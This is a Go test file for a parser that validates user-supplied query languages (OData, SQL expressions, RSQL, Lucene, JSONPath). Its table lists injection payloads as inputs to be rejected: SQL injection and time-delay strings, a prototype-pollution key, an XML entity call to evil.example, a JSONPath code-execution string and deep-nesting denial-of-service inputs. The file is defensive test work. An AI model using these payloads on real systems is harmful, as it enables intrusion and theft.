package query_test

import (
	"strings"
	"testing"

	"sallyport.dev/spec/query"
)

var fields = []string{"name", "price", "city", "tags", "lines", "sku", "owner", "created", "customer"}

// Attacks and what looks like them, a language at a time.
var table = []struct {
	language, value string
	good            bool
	literals        string
}{
	{"odata-filter", "name eq 'O''Brien' and price gt 5", true, "O'Brien"},
	{"odata-filter", "not (price lt 2.5 or contains(name,'select * from'))", true, "select * from"},
	{"odata-filter", "created ge 2026-01-01T00:00:00Z and city in ('Rome','Oslo')", true, "Rome|Oslo"},
	{"odata-filter", "lines/any(l: l/sku eq 'A-1' and l/price add 2 gt 7)", true, "A-1"},
	{"odata-filter", "owner/name ne null and tags/$count gt 2", true, ""},
	{"odata-filter", "sku eq 7c9e6679-7425-40de-944b-e07fc1f90ae7", true, ""},
	{"odata-filter", "price mul -1 le -5", true, ""},
	{"odata-filter", "tolower(name) eq 'or 1=1'", true, "or 1=1"},
	{"odata-filter", "created eq duration'P1D'", true, "P1D"},
	{"odata-filter", "name eq 'x' or 1 eq 1", false, ""},
	{"odata-filter", "name eq 'x' or 'a' eq 'a'", false, ""},
	{"odata-filter", "name eq 'x'; drop table users", false, ""},
	{"odata-filter", "name eq 'x' or 1=1--", false, ""},
	{"odata-filter", "password eq 'x'", false, ""},
	{"odata-filter", "owner/password eq 'x'", false, ""},
	{"odata-filter", "system(name) eq 'x'", false, ""},
	{"odata-filter", "contains(name)", false, ""},
	{"odata-filter", "name eq 'x", false, ""},
	{"odata-filter", "name eq", false, ""},
	{"odata-filter", "", false, ""},
	{"odata-filter", "name eq 'x' and", false, ""},
	{"odata-filter", "name eq \"x\"", false, ""},
	{"odata-filter", strings.Repeat("(", 500) + "name eq 'x'" + strings.Repeat(")", 500), false, ""},
	{"odata-filter", "price eq 1" + strings.Repeat(" or price eq 1", 300), false, ""},
	{"odata-filter", strings.Repeat("not ", 800) + "price eq 1", false, ""},
	{"odata-orderby", "name desc,price", true, ""},
	{"odata-orderby", "length(name) asc", true, ""},
	{"odata-orderby", "name desc; waitfor delay '0:0:5'", false, ""},
	{"odata-orderby", "(select 1)", false, ""},
	{"odata-orderby", "password", false, ""},
	{"odata-select", "name,price,owner/name", true, ""},
	{"odata-select", "*", true, ""},
	{"odata-select", "name,password", false, ""},
	{"odata-select", "name from users", false, ""},
	{"odata-expand", "lines($filter=price gt 5;$select=sku;$top=10),owner", true, ""},
	{"odata-expand", "lines($expand=owner($levels=2);$count=true)", true, ""},
	{"odata-expand", "lines($apply=aggregate(price))", false, ""},
	{"odata-expand", "secrets", false, ""},
	{"odata-expand", strings.Repeat("lines($expand=", 40) + "owner" + strings.Repeat(")", 40), false, ""},
	{"sort-list", "-price,name:asc,city desc", true, ""},
	{"sort-list", "+price", true, ""},
	{"sort-list", "price,(case when 1=1 then 1 else 2 end)", false, ""},
	{"sort-list", "price;drop table x", false, ""},
	{"sort-list", "password", false, ""},
	{"sort-list", "price:up", false, ""},
	{"field-list", "name,lines(sku,price),owner.name,*", true, ""},
	{"field-list", "name,__proto__", false, ""},
	{"field-list", "name,lines(sku", false, ""},
	{"field-list", "name from users", false, ""},
	{"sql-expression", "price > 5 AND name LIKE 'O''Br%'", true, "O'Br%"},
	{"sql-expression", "city IN ('Rome', 'Oslo') OR NOT (price BETWEEN 1 AND 2)", true, "Rome|Oslo"},
	{"sql-expression", "(price + 2) * 3 >= 10 and created > DATE '2026-01-01'", true, "2026-01-01"},
	{"sql-expression", "lower(name) = 'select' and tags is not null", true, "select"},
	{"sql-expression", "\"price\" <> -1.5e3", true, ""},
	{"sql-expression", "name = '-- not a comment; truly'", true, "-- not a comment; truly"},
	{"sql-expression", "name = 'x' OR 1=1", false, ""},
	{"sql-expression", "name = 'x' OR 'a'='a'", false, ""},
	{"sql-expression", "name = 'x'; DROP TABLE users", false, ""},
	{"sql-expression", "name = 'x' -- ", false, ""},
	{"sql-expression", "name = 'x' /* */ and price = 1", false, ""},
	{"sql-expression", "price = (select 1)", false, ""},
	{"sql-expression", "price in (select price from users)", false, ""},
	{"sql-expression", "price = 1 union select 1", false, ""},
	{"sql-expression", "sleep(5) = 1", false, ""},
	{"sql-expression", "name = 'x\\' or 1=1 -- '", false, ""},
	{"sql-expression", "exists (price)", false, ""},
	{"sql-expression", "price = 1 or sleep (5)", false, ""},
	{"sql-expression", "password = 'x'", false, ""},
	{"sql-expression", "name = @@version", false, ""},
	{"sql-expression", "1", false, ""},
	{"sql-expression", strings.Repeat("((", 30) + "price = 1" + strings.Repeat("))", 30), false, ""},
	{"rsql", "name==\"O'Brien\";price=gt=5,city=in=(Rome,'New York')", true, "O'Brien|5|Rome|New York"},
	{"rsql", "(name==a*,name!=b) and owner.name==c", true, "a*|b|c"},
	{"rsql", "name==x or 1==1", false, ""},
	{"rsql", "password==x", false, ""},
	{"rsql", "name==", false, ""},
	{"rsql", "name=='x' OR 1=1 --", false, ""},
	{"rsql", "name=bad op=x", false, ""},
	{"lucene", `name:"blue tent"~2 AND price:[1 TO 20] -city:rome`, true, "blue tent|1|20|rome"},
	{"lucene", `rock'n'roll OR (name:jo* AND tags:*)^2`, true, "rock'n'roll|jo*"},
	{"lucene", `well-known x\:y`, true, "well-known|x:y"},
	{"lucene", "*", false, ""},
	{"lucene", "name:/.*/", false, ""},
	{"lucene", "*:*", false, ""},
	{"lucene", "password:a*", false, ""},
	{"lucene", "name:*admin", false, ""},
	{"lucene", "name:(a", false, ""},
	{"lucene", "{!xmlparser v='<!DOCTYPE a SYSTEM \"http://evil.example\">'}", false, ""},
	{"json-path", "$.lines[?@.price > 5 && @.sku == 'A-1'].name", true, "A-1"},
	{"json-path", "$..name", true, ""},
	{"json-path", "$['lines'][0:10:2,-1]['sku','price']", true, ""},
	{"json-path", "$.lines[?length(@.name) < 9]", true, ""},
	{"json-path", "$.lines[(@.length-1)]", false, ""},
	{"json-path", "$.lines[?(this.constructor.constructor('return process')())]", false, ""},
	{"json-path", "$.password", false, ""},
	{"json-path", "$.lines[?1 == 1]", false, ""},
	{"json-path", "$.lines[]", false, ""},
	{"json-path", "lines", false, ""},
	{"json-path", "$" + strings.Repeat("[?@", 100), false, ""},
}

func languages(t testing.TB) map[string]*query.Language {
	out := map[string]*query.Language{}
	for _, n := range query.Names() {
		var functions []string
		if n == "sql-expression" {
			functions = []string{"LOWER"}
		}
		l, err := query.New(n, fields, functions)
		if err != nil {
			t.Fatal(err)
		}
		out[n] = l
	}
	return out
}

func TestLanguages(t *testing.T) {
	all := languages(t)
	for _, c := range table {
		literals, err := all[c.language].Parse(c.value, nil)
		if (err == nil) != c.good || c.good && strings.Join(literals, "|") != c.literals {
			t.Errorf("%s %.120q: got %q, %v; want good = %v, literals %q", c.language, c.value, literals, err, c.good, c.literals)
		}
	}
	if _, err := query.New("sql-expression", nil, nil); err == nil {
		t.Error("sql-expression without fields is taken")
	}
	for _, n := range query.Names() {
		if _, err := all[n].Parse(strings.Repeat("a", 5000), nil); err == nil {
			t.Errorf("%s: a value of 5000 bytes is taken", n)
		}
	}
}

// FuzzLanguages puts any value to each grammar: none may panic, and what is
// taken stays within its bounds and holds no names but those listed.
func FuzzLanguages(f *testing.F) {
	for _, c := range table {
		f.Add(c.value)
	}
	all := languages(f)
	f.Fuzz(func(t *testing.T, value string) {
		for n, l := range all {
			literals, err := l.Parse(value, nil)
			if err == nil && len(literals) > query.MaxTerms {
				t.Fatalf("%s: %d literals of %q", n, len(literals), value)
			}
			if e, ok := err.(*query.Error); err != nil && (!ok || e.At < 0 || e.At > max(len(value), 0)) {
				t.Fatalf("%s: %q: error %v", n, value, err)
			}
			if err == nil && n == "sql-expression" {
				bare := value
				for _, s := range literals {
					bare = strings.ReplaceAll(bare, "'"+strings.ReplaceAll(s, "'", "''")+"'", "?")
				}
				if strings.ContainsAny(bare, ";\\") || strings.Contains(bare, "--") && !strings.Contains(bare, "'") {
					t.Fatalf("%q holds what no expression holds", value)
				}
			}
		}
	})
}
